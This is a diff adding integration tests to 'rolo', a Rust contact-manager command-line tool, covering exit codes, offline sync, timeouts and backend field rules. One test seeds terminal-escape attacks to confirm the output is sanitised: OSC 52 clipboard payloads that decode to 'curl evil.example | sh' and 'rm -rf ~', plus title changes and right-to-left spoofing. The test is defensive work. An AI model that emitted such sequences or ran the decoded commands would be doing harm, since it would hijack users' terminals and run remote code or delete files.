@@ -174,11 +174,14 @@ fn exit_codes_tell_scripts_what_went_wrong() {
     let sb = Sandbox::new();
     let code = |o: &Output| o.status.code().unwrap();
     assert_eq!(code(&sb.run(&["show", "no-such-id"])), 3);
+    assert_eq!(code(&sb.run(&["add", "--given-nam", "X"])), 2, "bad flag");
+    let nameless = sb.run(&["add", "--given-name", "X"]);
     assert_eq!(
-        code(&sb.run(&["add", "--given-name", "X"])),
-        2,
-        "missing required flag"
+        code(&nameless),
+        4,
+        "the local workspace needs a family name"
     );
+    assert!(stderr(&nameless).contains("family name is required"));
     let bad = sb.run(&["add", "--family-name", "X", "--email", "not-an-email"]);
     assert_eq!(code(&bad), 4);
     assert!(stderr(&bad).contains("not an email address"));
@@ -295,13 +298,19 @@ async fn offline_edits_queue_then_sync_sends_them_or_reports_a_conflict() {
         stdout(&out)
     );
 
-    // The server is out of reach: both edits are queued, exit 5 says so.
+    // The server is out of reach: both edits are queued; queued is done
+    // (exit 0), and stderr says when they will be sent.
     rr_config(&sb, "http://127.0.0.1:9");
     for (id, value) in [(&ids[0], "Mine"), (&ids[1], "Quiet")] {
         let set = format!("jobTitle={value}");
         let out = run_async(&sb, &["--profile", "rr", "edit", id, "--set", &set]).await;
-        assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
-        assert!(stderr(&out).contains("queued"), "{}", stderr(&out));
+        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+        assert!(
+            stderr(&out).contains("queued: will be sent by rolo sync or the next start"),
+            "{}",
+            stderr(&out)
+        );
+        assert_eq!(json(&out)["jobTitle"], value, "prints the edit as queued");
     }
     // Meanwhile someone changes the first person's job title on the server.
     let http = reqwest::Client::new();
@@ -368,4 +377,340 @@ async fn remote_add_prints_the_server_id() {
     assert!(!id.starts_with("local-"), "{id}");
     assert_eq!(fake.raw(&id).unwrap()["familyName"], "Lovelace");
     assert_eq!(fake.people_count(), 1);
+}
+
+#[test]
+fn the_readme_exit_code_table_is_the_enum() {
+    use rolo::cli::Exit;
+    let readme =
+        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/README.md")).unwrap();
+    let start = readme
+        .find("<!-- exit-codes:begin")
+        .expect("exit-code table start marker");
+    let end = readme
+        .find("<!-- exit-codes:end -->")
+        .expect("exit-code table end marker");
+    let table: Vec<&str> = readme[start..end].lines().skip(1).collect();
+    let mut expected = vec!["| code | meaning |".to_string(), "|---|---|".to_string()];
+    expected.extend(
+        Exit::ALL
+            .iter()
+            .map(|e| format!("| {} | {} |", e.code(), e.meaning())),
+    );
+    assert_eq!(
+        table,
+        expected,
+        "README.md's exit-code table drifted from rolo::cli::Exit; it should read:\n{}",
+        expected.join("\n")
+    );
+}
+
+/// Text that tries to take over the terminal: an OSC 52 clipboard write of
+/// a shell command, an OSC 0 title change, clear-screen (7-bit and C1),
+/// right-to-left override and isolate, a bell and DEL.
+const EVIL_GIVEN: &str = "Eve\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";
+const EVIL_FAMILY: &str = "Mallory\u{202e}gnp.exe\u{2066}\u{9b}2J";
+const EVIL_COMPANY: &str = "Evil\x1b]0;pwned\x07 Corp\x1b[2J\x7f";
+
+fn assert_terminal_safe(what: &str, text: &str) {
+    for c in text.chars() {
+        let bad = (c.is_control() && c != '\n' && c != '\t')
+            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{61c}');
+        assert!(!bad, "{what}: raw {:?} (U+{:04X}) in {text:?}", c, c as u32);
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_server_text_is_clean_in_every_format() {
+    let fake = FakeRogerRoger::start().await;
+    let id = fake.seed(serde_json::json!({
+        "givenName": EVIL_GIVEN,
+        "familyName": EVIL_FAMILY,
+        "jobTitle": EVIL_COMPANY,
+        "emailAddresses": [{"email": "eve@evil.example"}],
+    }));
+    let escapes = "\x1b[31m".repeat(500);
+    fake.seed_note(
+        &id,
+        &format!("Lunch\x1b]52;c;cm0gLXJmIH4=\x07{escapes}\u{85}"),
+        false,
+    );
+    let sb = Sandbox::new();
+    rr_config(&sb, &fake.base_url);
+    let runs: &[&[&str]] = &[
+        &["list"],
+        &["list", "--format", "json"],
+        &["list", "--format", "csv"],
+        &["show", &id],
+        &["show", &id, "--format", "json"],
+        &["show", &id, "--format", "csv"],
+        &["note", "list", &id],
+        &["note", "list", &id, "--format", "json"],
+        &["note", "list", &id, "--format", "csv"],
+    ];
+    for args in runs {
+        let mut full = vec!["--profile", "rr"];
+        full.extend_from_slice(args);
+        let out = run_async(&sb, &full).await;
+        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
+        let text = stdout(&out);
+        assert!(!text.trim().is_empty(), "{args:?} printed nothing");
+        assert_terminal_safe(&format!("{args:?}"), &text);
+        assert_terminal_safe(&format!("{args:?} stderr"), &stderr(&out));
+    }
+    // JSON loses nothing: the escapes parse back to the server's text.
+    let shown = json(&run_async(&sb, &["--profile", "rr", "show", &id, "--format", "json"]).await);
+    assert_eq!(shown["givenName"], EVIL_GIVEN);
+    assert_eq!(shown["familyName"], EVIL_FAMILY);
+    assert_eq!(shown["jobTitle"], EVIL_COMPANY);
+    assert!(
+        shown["notes"][0]["text"]
+            .as_str()
+            .unwrap()
+            .ends_with(&format!("{escapes}\u{85}"))
+    );
+    let raw = stdout(&run_async(&sb, &["--profile", "rr", "show", &id, "--format", "json"]).await);
+    assert!(
+        raw.contains("\\u202e") && raw.contains("\\u001b]52"),
+        "{raw}"
+    );
+}
+
+/// A server that accepts connections and never answers.
+fn silent_server() -> String {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    std::thread::spawn(move || {
+        let mut held = Vec::new();
+        for conn in listener.incoming() {
+            held.push(conn);
+        }
+    });
+    url
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_server_that_never_answers_costs_one_bounded_wait_per_request() {
+    let fake = FakeRogerRoger::start().await;
+    let ids = fake.seed_many(2);
+    let sb = Sandbox::new();
+    rr_config(&sb, &fake.base_url);
+    assert!(
+        run_async(&sb, &["--profile", "rr", "sync"])
+            .await
+            .status
+            .success()
+    );
+    sb.config(
+        &format!(
+            "[profiles.rr]\nbackend = \"rogerroger\"\nbase_url = \"{}\"\napi_key_env = \"ROLO_TEST_RR_KEY\"\nrate_limit_per_minute = 6000\nrequest_timeout_secs = 1\n",
+            silent_server()
+        ),
+        0o644,
+    );
+    // The edit reads (1 s, then the cache), queues, tries to send (1 s):
+    // it is queued, exit 0, and says what it waited for.
+    let started = std::time::Instant::now();
+    let out = run_async(
+        &sb,
+        &[
+            "--profile",
+            "rr",
+            "edit",
+            &ids[0],
+            "--set",
+            "jobTitle=Patient",
+        ],
+    )
+    .await;
+    let took = started.elapsed();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(
+        took < std::time::Duration::from_secs(6),
+        "edit took {took:?}"
+    );
+    let err = stderr(&out);
+    assert!(
+        err.contains("queued: will be sent by rolo sync or the next start"),
+        "{err}"
+    );
+    assert!(err.contains("no answer from 127.0.0.1 after 1s"), "{err}");
+    // A sync: one wait, exit 5, named.
+    let started = std::time::Instant::now();
+    let out = run_async(&sb, &["--profile", "rr", "sync"]).await;
+    let took = started.elapsed();
+    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
+    assert!(
+        took < std::time::Duration::from_secs(5),
+        "sync took {took:?}"
+    );
+    assert!(
+        stderr(&out).contains("no answer from 127.0.0.1 after 1s"),
+        "{}",
+        stderr(&out)
+    );
+}
+
+#[test]
+fn a_secret_command_that_hangs_is_stopped_after_ten_seconds() {
+    let sb = Sandbox::new();
+    sb.config(
+        "[profiles.rr]\nbackend = \"rogerroger\"\nbase_url = \"http://127.0.0.1:9\"\napi_key_cmd = \"sleep 100\"\n",
+        0o644,
+    );
+    let started = std::time::Instant::now();
+    let out = sb.run(&["--profile", "rr", "list"]);
+    let took = started.elapsed();
+    assert_eq!(out.status.code(), Some(6), "{}", stderr(&out));
+    assert!(took < std::time::Duration::from_secs(14), "took {took:?}");
+    assert!(
+        stderr(&out).contains("the secret command gave no answer within 10s and was stopped"),
+        "{}",
+        stderr(&out)
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn exit_codes_keep_outcomes_apart_on_a_remote_profile() {
+    use support::faults::Fault;
+    let fake = FakeRogerRoger::start().await;
+    let ids = fake.seed_many(2);
+    let sb = Sandbox::new();
+    rr_config(&sb, &fake.base_url);
+    // A reply cut off while reading before an edit: nothing is queued.
+    let path = format!("/people/{}", ids[0]);
+    fake.inject(Some("GET"), Some(&path), Fault::Truncated, 1);
+    let out = run_async(
+        &sb,
+        &["--profile", "rr", "edit", &ids[0], "--set", "jobTitle=X"],
+    )
+    .await;
+    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("nothing was changed or queued"),
+        "{}",
+        stderr(&out)
+    );
+    assert_eq!(queued_in(&sb), 0);
+    assert_eq!(fake.recorder.count("PATCH", &path), 0);
+    // A wrong key during sync is an authentication failure, not a network one.
+    let mut c = sb.cmd(&["--profile", "rr", "sync"]);
+    c.env("ROLO_TEST_RR_KEY", "wrong-key-value");
+    let out = tokio::task::spawn_blocking(move || c.output().unwrap())
+        .await
+        .unwrap();
+    assert_eq!(out.status.code(), Some(6), "{}", stderr(&out));
+    assert!(!stderr(&out).contains("wrong-key-value"));
+    // RogerRoger has no notes endpoint for deletes and no custom fields:
+    // refused when asked (exit 2), nothing queued.
+    let out = run_async(
+        &sb,
+        &[
+            "--profile",
+            "rr",
+            "edit",
+            &ids[1],
+            "--set",
+            "custom.tier=gold",
+        ],
+    )
+    .await;
+    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    assert_eq!(stderr(&out).trim(), "rolo: RogerRoger has no custom fields");
+    assert_eq!(queued_in(&sb), 0);
+    // A damaged cache: its own code, and the file is left alone.
+    let cache = sb.path("cache/rolo/rr.sqlite");
+    let garbage = vec![0x5a_u8; 8192];
+    std::fs::write(&cache, &garbage).unwrap();
+    let out = run_async(&sb, &["--profile", "rr", "list"]).await;
+    assert_eq!(out.status.code(), Some(65), "{}", stderr(&out));
+    assert!(stderr(&out).contains("move it aside"), "{}", stderr(&out));
+    assert_eq!(std::fs::read(&cache).unwrap(), garbage);
+}
+
+fn queued_in(sb: &Sandbox) -> usize {
+    let path = sb.path("cache/rolo/rr.sqlite");
+    if !path.exists() {
+        return 0;
+    }
+    rolo::store::Store::open(&path)
+        .unwrap()
+        .queued_count()
+        .unwrap()
+}
+
+const INTROZY_KEY_ENV: &str = "ROLO_TEST_INTROZY_KEY";
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn introzy_edits_follow_what_introzy_stores() {
+    use support::fake_introzy::{API_KEY as INTROZY_KEY, FakeIntrozy};
+    let fake = FakeIntrozy::start().await;
+    // Introzy allows a person without a last name.
+    let id = fake.seed(serde_json::json!({
+        "email": "ana@example.es", "firstName": "Ana",
+        "address": "Calle de Alcalá 269, 08006 Barcelona, ES",
+    }));
+    let sb = Sandbox::new();
+    sb.config(
+        &format!(
+            "[profiles.iz]\nbackend = \"introzy\"\nbase_url = \"{}\"\napi_key_env = \"{INTROZY_KEY_ENV}\"\n",
+            fake.base_url
+        ),
+        0o644,
+    );
+    let run = |args: Vec<String>| {
+        let mut c = sb.cmd(&args.iter().map(String::as_str).collect::<Vec<_>>());
+        c.env(INTROZY_KEY_ENV, INTROZY_KEY);
+        tokio::task::spawn_blocking(move || c.output().unwrap())
+    };
+    let edit = |set: &str| {
+        run(["--profile", "iz", "edit", &id, "--set", set]
+            .iter()
+            .map(|s| s.to_string())
+            .collect())
+    };
+    let out = edit("city=Utrecht").await.unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    assert_eq!(
+        stderr(&out).trim(),
+        "rolo: Introzy stores the address as one line: use --set address=…"
+    );
+    let out = edit("jobTitle=CTO").await.unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    assert_eq!(stderr(&out).trim(), "rolo: Introzy has no job title field");
+    assert_eq!(
+        fake.recorder.count("PATCH", &format!("/api/people/{id}")),
+        0
+    );
+
+    let out = edit("company=Acme").await.unwrap();
+    assert!(
+        out.status.success(),
+        "no last name is fine here: {}",
+        stderr(&out)
+    );
+    assert_eq!(fake.raw(&id).unwrap()["company"]["name"], "Acme");
+    let out = edit("address=Keizersgracht 1, 1015 CJ Amsterdam, NL")
+        .await
+        .unwrap();
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(
+        fake.raw(&id).unwrap()["address"],
+        "Keizersgracht 1, 1015 CJ Amsterdam, NL"
+    );
+    // Custom fields are typed by the definitions: a select takes an
+    // option's label or value and stores the value; anything else is invalid.
+    let out = edit("custom.cf_lead_source=Website").await.unwrap();
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(
+        fake.raw(&id).unwrap()["customFields"]["cf_lead_source"],
+        "web"
+    );
+    let out = edit("custom.cf_lead_source=Radio").await.unwrap();
+    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("not one of: Conference, Website"),
+        "{}",
+        stderr(&out)
+    );
 }
